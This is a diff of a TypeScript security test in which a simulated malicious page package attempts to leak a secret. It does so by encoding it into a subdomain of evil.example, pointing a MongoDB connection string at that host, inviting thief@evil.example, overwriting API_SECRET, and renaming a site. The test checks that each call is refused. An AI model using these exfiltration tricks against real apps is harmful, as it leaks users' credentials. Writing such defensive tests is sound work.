@@ -88,29 +88,29 @@ describe('a bad package in the page, with calls alone', () => {
     const list = await call('sites.list', { fresh: true });
     const [site] = list.ok ? list.value.sites : [];
     const id = site?.id ?? '';
-    const settings = await call('settings.list', { id });
+    const settings = await call('configVars.list', { id });
     const secret = settings.ok ? settings.value.rows.find((row) => row.secret) : undefined;
     const name = secret?.name ?? '';
     expect(name).not.toBe('');
 
-    expect(await call('settings.reveal', { id, name })).toEqual(notAgreed);
-    expect(await call('settings.copy', { id, name })).toEqual(notAgreed);
+    expect(await call('configVars.reveal', { id, name })).toEqual(notAgreed);
+    expect(await call('configVars.copy', { id, name })).toEqual(notAgreed);
     const address = `${Buffer.from('a secret').toString('hex')}.evil.example`;
-    expect(await call('data.fromSite', { address, secret: 'x' })).toEqual(notAgreed);
-    const typed = await call('strings.type', {
+    expect(await call('mongodb.exportFromSite', { address, secret: 'x' })).toEqual(notAgreed);
+    const typed = await call('connectionStrings.type', {
       site: null,
       text: `mongodb+srv://u:pw-7731@${address}/db`,
     });
     const string = typed.ok ? typed.value.id : '';
-    expect(await call('strings.test', { string, write: false })).toEqual(notAgreed);
-    expect(await call('strings.reveal', { string })).toEqual(notAgreed);
-    expect(await call('strings.copy', { string })).toEqual(notAgreed);
-    expect(await call('database.measure', { string })).toEqual(notAgreed);
-    expect(await call('people.invite', { id, email: 'thief@evil.example' })).toEqual(notAgreed);
+    expect(await call('connectionStrings.test', { string, write: false })).toEqual(notAgreed);
+    expect(await call('connectionStrings.reveal', { string })).toEqual(notAgreed);
+    expect(await call('connectionStrings.copy', { string })).toEqual(notAgreed);
+    expect(await call('mongodb.measure', { string })).toEqual(notAgreed);
+    expect(await call('collaborators.invite', { id, email: 'thief@evil.example' })).toEqual(notAgreed);
     const changes = [{ name: 'API_SECRET', kind: 'set', value: 'known to a thief' }] as const;
-    expect(await call('settings.apply', { id, changes })).toEqual(notAgreed);
-    expect(await call('plan.change', { id, size: 'Performance-L' })).toEqual(notAgreed);
-    expect(await call('sites.rename', { id, name: 'a-secret-as-a-name' })).toEqual(notAgreed);
+    expect(await call('configVars.apply', { id, changes })).toEqual(notAgreed);
+    expect(await call('actions.changeDynoSize', { id, size: 'Performance-L' })).toEqual(notAgreed);
+    expect(await call('actions.rename', { id, name: 'a-secret-as-a-name' })).toEqual(notAgreed);
 
     expect(reached).toEqual([]);
     expect(asked.map(({ act }) => act)).toContain('invite');
@@ -126,22 +126,22 @@ describe('a bad package in the page, with calls alone', () => {
 
 /** They look, they ask in a window of main's own (delete, save, pick a file), or what they do is undone in one press. */
 const needsNone: readonly string[] = `
-  compare.pick compare.unlock compare.view history.leave sites.copyAddress
-  app.snapshot preferences.set links.open practice.enter practice.leave
+  backups.comparePick backups.compareUnlock backups.compareView history.leave sites.copyAddress
+  app.snapshot preferences.set app.openLink app.enterPractice app.leavePractice
   account.paste account.type account.keep account.discard sites.list
-  sites.look sites.open sites.setTitle sites.restart sites.wake
-  sites.detail sites.turnOff sites.turnOn sites.close sites.reopen
-  sites.delete tickets.issue tidy.table tidy.losses plan.list
-  settings.list settings.review copies.lock copies.unlock copies.list
-  copies.save copies.saveAll copies.stopAll copies.exportIdentity restore.pick restore.paste restore.review restore.unlock
-  restore.fromCopy versions.list versions.preview people.list people.remove
-  addons.remove jobs.list history.list history.stand shutdown.view
-  shutdown.begin shutdown.go shutdown.tell shutdown.own shutdown.turnOff
-  shutdown.startAgain shutdown.stop shutdown.check shutdown.extras shutdown.end
-  shutdown.receipt strings.ofSite strings.find strings.pick strings.unlock
-  strings.paste strings.type strings.pasteAnswer strings.answer strings.stopTest
-  strings.saveCopy wizards.open wizards.keep wizards.end room.ticket
-  room.undo work.list work.stop
+  sites.refresh sites.open sites.setTitle actions.restart actions.wake
+  sites.detail actions.turnOff actions.turnOn actions.close actions.reopen
+  actions.delete actions.issueTicket accountCleanup.list actions.losses pricing.list
+  configVars.list configVars.review backups.lock backups.unlock backups.list
+  backups.save backups.saveAll backups.stopSaveAll backups.exportKey backups.restorePick backups.restorePaste backups.restoreReview backups.restoreUnlock
+  backups.restoreFromCopy releases.list releases.preview collaborators.list collaborators.remove
+  actions.removeAddon jobs.list history.list history.drift shutdown.view
+  shutdown.begin shutdown.goTo shutdown.setNotifyList shutdown.setTaskDone shutdown.turnOff
+  shutdown.startAgain shutdown.stop shutdown.check shutdown.paidAddons shutdown.end
+  shutdown.receipt connectionStrings.ofSite connectionStrings.find connectionStrings.pick connectionStrings.unlock
+  connectionStrings.paste connectionStrings.type connectionStrings.pasteAnswer connectionStrings.answer connectionStrings.stopTest
+  connectionStrings.saveFile guides.list guides.keep guides.end mongodb.cleanupTicket
+  mongodb.cleanupUndo work.list work.stop
 `
   .trim()
   .split(/\s+/);
